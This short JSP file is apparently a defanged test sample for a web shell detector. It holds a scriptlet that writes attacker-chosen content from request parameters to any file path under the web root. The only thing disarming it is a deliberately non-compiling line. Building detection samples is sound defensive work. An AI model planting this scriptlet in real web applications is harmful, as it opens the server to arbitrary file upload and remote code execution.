<%-- DEFANGED vigil test sample (see README): the next scriptlet does not compile. --%>
<% DEFANGED_SAMPLE_DOES_NOT_COMPILE %>
<%
new java.io.FileOutputStream(application.getRealPath("/") + request.getParameter("f")).write(request.getParameter("c").getBytes());
%>
